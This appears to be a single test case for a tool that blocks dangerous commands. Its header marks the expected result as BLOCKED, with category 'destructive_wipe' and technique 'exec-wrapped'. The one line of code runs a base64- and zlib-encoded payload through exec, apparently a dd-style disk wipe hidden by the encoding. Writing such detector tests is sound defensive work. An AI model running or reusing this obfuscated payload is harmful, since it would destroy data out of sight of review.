# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/dd_disk.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwtykEKg0AMBdD9nOJjN3ZT6QHmCKVnsCRiKBrJT5X29Cp0+eBd8Fw1trBUIkfFYMGEGN/YLEf8NJy3YtPikXCWcpBfpk5tIwIbaie6dueD/0Hp8WK9P8Ds88M6+6zNdQdMoiYN')))
